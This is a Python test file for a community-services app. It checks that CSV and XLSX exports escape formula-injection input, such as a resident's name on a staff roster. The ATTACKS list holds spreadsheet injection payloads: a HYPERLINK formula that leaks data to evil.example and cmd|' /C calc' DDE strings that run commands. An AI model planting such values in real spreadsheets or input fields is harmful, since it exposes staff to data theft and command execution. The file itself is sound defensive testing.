"""Formula injection: what a resident or a village types never runs as a formula in a staff member's export."""

import csv
import io

from openpyxl import load_workbook

from accounts.models import Role
from core.spreadsheets import csv_cell
from reports.exports import Table, to_csv, to_xlsx
from tests import activity_factories as af
from tests import factories as f

ATTACKS = [
    '=HYPERLINK("http://evil.example/?leak","X8")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
]


def test_every_formula_start_is_neutralised_and_plain_text_is_not():
    assert all(csv_cell(a).startswith("'") for a in ATTACKS)
    assert csv_cell("张秀兰") == "张秀兰" and csv_cell(-3) == -3 and csv_cell("") == ""


def test_a_table_export_keeps_attacks_as_text_in_csv_and_xlsx():
    table = Table("名单", [("name", "姓名"), ("n", "数量")], [{"name": a, "n": -1} for a in ATTACKS])
    rows = list(csv.reader(io.StringIO(to_csv(table).decode("utf-8-sig"))))
    assert [r[0] for r in rows[1:]] == ["'" + a for a in ATTACKS]
    sheet = load_workbook(io.BytesIO(to_xlsx(table))).active
    cells = [sheet.cell(row=i + 2, column=1) for i in range(len(ATTACKS))]
    assert [c.value for c in cells][:-1] == ATTACKS[:-1] and {c.data_type for c in cells} == {"s"}  # \r reads \n
    assert sheet.cell(row=2, column=2).value == -1  # numbers stay numbers


def test_the_staff_roster_csv_does_not_run_a_residents_name(client):
    act = af.activity()
    user = f.resident("13800000021", name=ATTACKS[0])
    booking = af.book(user, act)
    f.staff(None, Role.admin, login="desk")
    f.commit()
    client.login("desk")
    body = client.get(f"/staff/sessions/{booking.session_id}/roster.csv").get_data(as_text=True)
    row = next(r for r in csv.reader(io.StringIO(body.lstrip("\ufeff"))) if r and r[0] == str(booking.id))
    assert row[2] == "'" + ATTACKS[0]
